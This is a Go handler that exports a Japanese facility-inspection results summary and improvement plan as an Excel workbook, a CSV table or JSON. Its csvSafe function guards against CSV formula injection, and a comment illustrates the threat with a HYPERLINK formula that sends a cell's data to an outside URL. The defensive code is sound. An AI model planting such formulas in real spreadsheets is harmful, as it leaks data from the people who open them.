package handlers

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"math"
	"strconv"
	"strings"

	"github.com/gin-gonic/gin"
	"github.com/xuri/excelize/v2"

	"tenken/checklist"
)

// The next-year plan export: the results of a fiscal year and the
// improvement plan they lead to, bureau-wide or for one facility, as an
// Excel workbook, a CSV table (UTF-8 with a BOM so Excel reads the
// Japanese text), or JSON.

// Sheet names of the workbook, which are also the CSV tables' names.
const (
	SheetSummary    = "概要"
	SheetFacilities = "施設別結果"
	SheetItems      = "項目別不適合率"
	SheetSections   = "分野別結果"
	SheetPersistent = "継続課題"
	SheetPlan       = "改善計画"
)

// csvTables maps the table query parameter to a sheet.
var csvTables = map[string]string{
	"summary": SheetSummary, "facilities": SheetFacilities, "items": SheetItems,
	"sections": SheetSections, "persistent": SheetPersistent, "plan": SheetPlan,
}

// table is one sheet: a header row and rows of strings and numbers.
type table struct {
	name    string
	headers []string
	rows    [][]any
}

// planData is everything an export shows.
type planData struct {
	fiscalYear int
	facility   *checklist.Facility // nil for the whole bureau
	years      []*checklist.YearData
	year       *checklist.YearData
	plan       []checklist.PlanRow
	persistent []checklist.PersistentProblem
	// actions by facility id and item key: the newest action for the
	// plan's year, else the newest open one.
	actions map[string]checklist.Action
}

func actionKey(facilityID, item string) string { return facilityID + "/" + item }

func (s *Server) planExport(c *gin.Context) {
	var probs checklist.Problems
	fy := fiscalYearParam(c, "fiscal_year", &probs)
	format := c.DefaultQuery("format", "xlsx")
	switch format {
	case "xlsx", "csv", "json":
	default:
		probs.Add("format", "enum", "format must be xlsx, csv or json")
	}
	tableName := c.DefaultQuery("table", "plan")
	if _, ok := csvTables[tableName]; !ok {
		probs.Add("table", "enum", "table must be summary, facilities, items, sections, persistent or plan")
	}
	facilityID := c.Query("facility_id")
	if refuseQuery(c, probs) {
		return
	}
	name := fmt.Sprintf("tenken-plan-FY%d", fy+1)
	if facilityID != "" {
		f, err := s.store.FindFacility(c.Request.Context(), facilityID)
		if err != nil {
			respondError(c, err)
			return
		}
		name += "-" + f.Code
	}
	if format == "csv" {
		name += "-" + tableName
	}
	c.Header("Content-Disposition", fmt.Sprintf(`attachment; filename="%s.%s"`, name, format))
	keys := func(vers map[string]string) []string {
		return append(persistentKeys(fy)(vers), checklist.ReportVersionActions)
	}
	s.serveReport(c, "plan", keys, func(ctx context.Context, vers map[string]string) (cachedBody, error) {
		pd, err := s.planData(ctx, fy, facilityID, vers)
		if err != nil {
			return cachedBody{}, err
		}
		switch format {
		case "json":
			return jsonBody(newPlanJSON(pd))
		case "csv":
			for _, t := range planTables(pd) {
				if t.name == csvTables[tableName] {
					b, err := csvBytes(t)
					return cachedBody{contentType: "text/csv; charset=utf-8", body: b}, err
				}
			}
		}
		b, err := xlsxBytes(planTables(pd))
		return cachedBody{contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", body: b}, err
	})
}

func (s *Server) planData(ctx context.Context, fy int, facilityID string, vers map[string]string) (*planData, error) {
	years, err := s.persistentYears(ctx, fy, vers)
	if err != nil {
		return nil, err
	}
	pd := &planData{fiscalYear: fy, years: years, year: years[len(years)-1]}
	// The plan shows each failed answer's comment: its findings, in no
	// particular order, are enough (s.findings would sort them).
	comments := map[string]map[string]string{}
	for _, f := range pd.year.Findings {
		if facilityID != "" && f.FacilityID != facilityID {
			continue
		}
		if comments[f.FacilityID] == nil {
			comments[f.FacilityID] = map[string]string{}
		}
		comments[f.FacilityID][f.ItemKey] = f.Comment
	}
	plan := checklist.Plan(years, comments)
	persistent := checklist.PlanPersistent(plan, checklist.MinPersistentYears)
	if facilityID != "" {
		for _, f := range pd.year.Facilities {
			if f.ID == facilityID {
				pd.facility = &f
			}
		}
		if pd.facility == nil {
			return nil, checklist.Errorf(checklist.ENotFound, "no facility %s", facilityID)
		}
		plan = filterFacility(plan, facilityID, func(r checklist.PlanRow) string { return r.Facility.ID })
		persistent = filterFacility(persistent, facilityID, func(p checklist.PersistentProblem) string { return p.Facility.ID })
	}
	pd.plan, pd.persistent = plan, persistent
	q := checklist.ActionQuery{}
	if facilityID != "" {
		q.FacilityIDs = []string{facilityID}
	}
	actions, err := s.store.ListActions(ctx, q)
	if err != nil {
		return nil, err
	}
	pd.actions = map[string]checklist.Action{}
	for _, a := range actions { // oldest first: later ones win
		k := actionKey(a.FacilityID, a.ItemKey)
		if prev, ok := pd.actions[k]; ok && prev.TargetFiscalYear == fy+1 && a.TargetFiscalYear != fy+1 {
			continue
		}
		if a.TargetFiscalYear == fy+1 || a.Status.Open() {
			pd.actions[k] = a
		}
	}
	return pd, nil
}

func filterFacility[T any](rows []T, id string, of func(T) string) []T {
	var out []T
	for _, r := range rows {
		if of(r) == id {
			out = append(out, r)
		}
	}
	return out
}

// round1 rounds to one decimal for display.
func round1(f float64) float64 { return math.Round(f*10) / 10 }

func statusLabel(r checklist.FacilityResult) string {
	if !r.Inspected {
		return "未点検"
	}
	switch r.Inspection.Status {
	case checklist.StatusApproved:
		return "承認済み"
	case checklist.StatusSubmitted:
		return "提出済み"
	}
	return string(r.Inspection.Status)
}

// planTables lays the export out as sheets.
func planTables(pd *planData) []table {
	d := pd.year
	fy, next := pd.fiscalYear, pd.fiscalYear+1
	texts := itemTexts(d)
	sectionOf := d.SectionOf()
	sectionTitle := map[string]string{}
	var sections []checklist.Section
	if d.Content != nil {
		sections = d.Content.Sections
		for _, s := range sections {
			sectionTitle[s.Key] = s.Title.Ja
		}
	}
	results := checklist.FacilityResults(d)
	if pd.facility != nil {
		results = filterFacility(results, pd.facility.ID, func(r checklist.FacilityResult) string { return r.Facility.ID })
	}

	scope := "局全体"
	if pd.facility != nil {
		scope = pd.facility.Code + " " + pd.facility.Name.JA
	}
	inspected, failed := 0, 0
	var pts, maxPts float64
	for _, r := range results {
		if r.Inspected {
			inspected++
			failed += r.Failed
			pts += r.Points
			maxPts += r.MaxPoints
		}
	}
	summary := table{name: SheetSummary, headers: []string{"項目", "内容"}, rows: [][]any{
		{"対象", scope},
		{"点検年度", checklist.FiscalYearLabels(fy)},
		{"計画年度", checklist.FiscalYearLabels(next)},
		{"施設数", len(results)},
		{"点検済み施設数", inspected},
		{"得点率（%）", round1(checklist.Percent(pts, maxPts))},
		{"不適合件数", failed},
		{"継続課題件数", len(pd.persistent)},
		{"改善計画件数", len(pd.plan)},
	}}

	fac := table{name: SheetFacilities, headers: []string{"年度", "施設コード", "施設名", "点検状況", "点検日", "得点率（%）", "不適合項目数", "不適合項目"}}
	for _, s := range sections {
		fac.headers = append(fac.headers, s.Title.Ja+"（%）")
	}
	for _, r := range results {
		row := []any{checklist.FiscalYearLabels(fy), r.Facility.Code, r.Facility.Name.JA, statusLabel(r)}
		if r.Inspected {
			row = append(row, r.Inspection.Date.String(), round1(r.Percent), r.Failed, strings.Join(r.FailedItems, ", "))
			for _, sc := range r.Sections {
				row = append(row, round1(sc.Percent))
			}
		} else {
			row = append(row, "", "", "", "")
		}
		fac.rows = append(fac.rows, row)
	}

	items := table{name: SheetItems, headers: []string{"年度", "分野", "項目キー", "項目", "回答施設数", "該当なし", "不適合施設数", "不適合率（%）", "該当なし率（%）", "不適合施設"}}
	if pd.facility != nil {
		items.headers = append(items.headers, "当施設の結果")
	}
	byID := facilitiesByID(d)
	for _, r := range checklist.ItemResults(d) {
		codes := make([]string, 0, len(r.FailedFacilities))
		for _, id := range r.FailedFacilities {
			codes = append(codes, byID[id].Code)
		}
		row := []any{checklist.FiscalYearLabels(fy), sectionTitle[r.SectionKey], r.Key, r.Text.Ja, r.Answered, r.NA, r.Failed,
			round1(100 * r.FailureRate), round1(100 * r.NARate), strings.Join(codes, ", ")}
		if pd.facility != nil {
			row = append(row, stateLabel(d.Tallies[pd.facility.ID][r.Key]))
		}
		items.rows = append(items.rows, row)
	}

	sec := table{name: SheetSections, headers: []string{"年度", "分野キー", "分野", "得点率（%）", "施設平均（%）", "評価施設数", "不適合件数"}}
	for _, r := range checklist.SectionResults(d) {
		sec.rows = append(sec.rows, []any{checklist.FiscalYearLabels(fy), r.Key, r.Title.Ja, round1(r.Percent), round1(r.AveragePercent), r.Facilities, r.Failed})
	}

	per := table{name: SheetPersistent, headers: []string{"順位", "施設コード", "施設名", "分野", "項目キー", "項目", "連続不適合年数", "開始年度", "直近年度", "同項目の不適合施設数"}}
	for _, p := range pd.persistent {
		per.rows = append(per.rows, []any{p.Rank, p.Facility.Code, p.Facility.Name.JA, sectionTitle[sectionOf[p.ItemKey]], p.ItemKey, texts[p.ItemKey].Ja,
			p.Years, checklist.FiscalYearLabels(p.From), checklist.FiscalYearLabels(p.To), p.FacilitiesFailing})
	}

	plan := table{name: SheetPlan, headers: []string{"優先順位", "計画年度", "施設コード", "施設名", "分野", "項目キー", "項目", "連続不適合年数", "点検時のコメント", "改善内容", "担当", "期限", "状況", "中間報告（9月）", "最終報告（12月）", "優良事例"}}
	for _, r := range pd.plan {
		row := []any{r.Priority, checklist.FiscalYearLabels(next), r.Facility.Code, r.Facility.Name.JA,
			sectionTitle[sectionOf[r.ItemKey]], r.ItemKey, texts[r.ItemKey].Ja, r.Years, r.Comment}
		if a, ok := pd.actions[actionKey(r.Facility.ID, r.ItemKey)]; ok {
			row = append(row, a.Title, a.Owner, dateCell(a.Due), actionStatusLabel(a), progressCell(a.Interim), progressCell(a.Final), goodPracticeCell(a))
		} else {
			row = append(row, "", "", "", "未着手", "", "", "")
		}
		plan.rows = append(plan.rows, row)
	}
	return []table{summary, fac, items, sec, per, plan}
}

func dateCell(d checklist.Date) string {
	if d.IsZero() {
		return ""
	}
	return d.String()
}

func progressCell(r *checklist.ProgressReport) string {
	if r == nil {
		return ""
	}
	return r.Date.String() + " " + r.Text
}

func goodPracticeCell(a checklist.Action) string {
	if !a.GoodPractice {
		return ""
	}
	if a.GoodPracticeNote == "" {
		return "○"
	}
	return "○ " + a.GoodPracticeNote
}

// actionStatusLabel is an action's status in Japanese, flagged when a
// later inspection failed the item again.
func actionStatusLabel(a checklist.Action) string {
	l := map[checklist.ActionStatus]string{
		checklist.ActionPlanned: "計画", checklist.ActionInProgress: "実施中", checklist.ActionDone: "完了",
		checklist.ActionVerified: "効果確認済み", checklist.ActionDropped: "中止",
	}[a.Status]
	if a.Flagged {
		l += "（再指摘あり）"
	}
	return l
}

func stateLabel(t checklist.Tally) string {
	switch {
	case t.Failed > 0:
		return "不適合"
	case t.NA > 0:
		return "該当なし"
	case t.Answered > 0:
		return "適合"
	}
	return "未回答"
}

// xlsxBytes writes tables as a workbook, one sheet each.
func xlsxBytes(tables []table) ([]byte, error) {
	f := excelize.NewFile()
	defer f.Close()
	// Deflate at its fastest: at level 5 (archive/zip's) compressing the
	// sheets was a sixth of a cold plan export's CPU at 1,448 facilities,
	// for a file ~20 % smaller.
	f.SetZipWriter(func(w io.Writer) excelize.ZipWriter {
		zw := zip.NewWriter(w)
		zw.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) {
			return flate.NewWriter(out, flate.BestSpeed)
		})
		return zw
	})
	bold, err := f.NewStyle(&excelize.Style{Font: &excelize.Font{Bold: true},
		Fill: excelize.Fill{Type: "pattern", Pattern: 1, Color: []string{"DDEBF7"}}})
	if err != nil {
		return nil, err
	}
	for i, t := range tables {
		if i == 0 {
			if err := f.SetSheetName("Sheet1", t.name); err != nil {
				return nil, err
			}
		} else if _, err := f.NewSheet(t.name); err != nil {
			return nil, err
		}
		sw, err := f.NewStreamWriter(t.name)
		if err != nil {
			return nil, err
		}
		header := make([]any, len(t.headers))
		for j, h := range t.headers {
			header[j] = excelize.Cell{StyleID: bold, Value: h}
		}
		if err := sw.SetColWidth(1, max(len(t.headers), 1), 16); err != nil {
			return nil, err
		}
		if err := sw.SetRow("A1", header); err != nil {
			return nil, err
		}
		for r, row := range t.rows {
			cell, _ := excelize.CoordinatesToCellName(1, r+2)
			if err := sw.SetRow(cell, row); err != nil {
				return nil, err
			}
		}
		if err := sw.Flush(); err != nil {
			return nil, err
		}
	}
	// No SetActiveSheet: the first sheet is active in a new file, and
	// the call parses every streamed sheet back and writes it again —
	// most of a big plan export's time.
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// csvBytes writes t as CSV in UTF-8 with a byte order mark, CRLF line
// ends, as Excel expects.
func csvBytes(t table) ([]byte, error) {
	var buf bytes.Buffer
	buf.WriteString("\uFEFF")
	w := csv.NewWriter(&buf)
	w.UseCRLF = true
	rec := make([]string, 0, len(t.headers))
	for _, h := range t.headers { // section titles head columns
		rec = append(rec, csvSafe(h))
	}
	if err := w.Write(rec); err != nil {
		return nil, err
	}
	for _, row := range t.rows {
		rec = rec[:0]
		for _, v := range row {
			cell := cellString(v)
			if _, text := v.(string); text {
				cell = csvSafe(cell)
			}
			rec = append(rec, cell)
		}
		if err := w.Write(rec); err != nil {
			return nil, err
		}
	}
	w.Flush()
	return buf.Bytes(), w.Error()
}

// csvSafe neutralises a text cell that a spreadsheet would read as a
// formula (OWASP's CSV-injection rule): one starting with =, +, -, @, a
// tab or a carriage return gets a leading apostrophe, so that Excel shows
// it as text. Text written by users (comments, action titles, owners,
// reports, facility and checklist names) reaches the reviewers' exports,
// and a formula there could send the sheet's data elsewhere
// (=HYPERLINK("http://…?d="&B2,…)) when a reviewer opens it. Numbers are
// written from their values and never pass here.
func csvSafe(s string) string {
	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
		return "'" + s
	}
	return s
}

func cellString(v any) string {
	switch v := v.(type) {
	case string:
		return v
	case int:
		return strconv.Itoa(v)
	case float64:
		return strconv.FormatFloat(v, 'f', -1, 64)
	}
	return fmt.Sprint(v)
}

type planRowJSON struct {
	Priority int             `json:"priority"`
	Facility facilityRefJSON `json:"facility"`
	Item     string          `json:"item"`
	Section  string          `json:"section"`
	Text     checklist.Text  `json:"text"`
	Years    int             `json:"years_failing"`
	Comment  string          `json:"comment"`
	Action   *actionJSON     `json:"action"`
}

type planJSON struct {
	FiscalYear       yearHeaderJSON       `json:"fiscal_year"`
	TargetFiscalYear yearHeaderJSON       `json:"target_fiscal_year"`
	Facility         *facilityRefJSON     `json:"facility,omitempty"`
	Facilities       []facilityResultJSON `json:"facilities"`
	Persistent       []persistentJSON     `json:"persistent_problems"`
	Plan             []planRowJSON        `json:"plan"`
}

func newPlanJSON(pd *planData) planJSON {
	out := planJSON{FiscalYear: yearHeader(pd.fiscalYear), TargetFiscalYear: yearHeader(pd.fiscalYear + 1),
		Facilities: []facilityResultJSON{}, Persistent: []persistentJSON{}, Plan: []planRowJSON{}}
	if pd.facility != nil {
		r := facilityRef(*pd.facility)
		out.Facility = &r
	}
	for _, r := range checklist.FacilityResults(pd.year) {
		if pd.facility == nil || r.Facility.ID == pd.facility.ID {
			out.Facilities = append(out.Facilities, newFacilityResultJSON(r))
		}
	}
	for _, p := range pd.persistent {
		out.Persistent = append(out.Persistent, newPersistentJSON(p))
	}
	for _, r := range pd.plan {
		row := planRowJSON{Priority: r.Priority, Facility: facilityRef(r.Facility), Item: r.ItemKey,
			Section: r.SectionKey, Text: r.Text, Years: r.Years, Comment: r.Comment}
		if a, ok := pd.actions[actionKey(r.Facility.ID, r.ItemKey)]; ok {
			j := newActionJSON(a)
			row.Action = &j
		}
		out.Plan = append(out.Plan, row)
	}
	return out
}
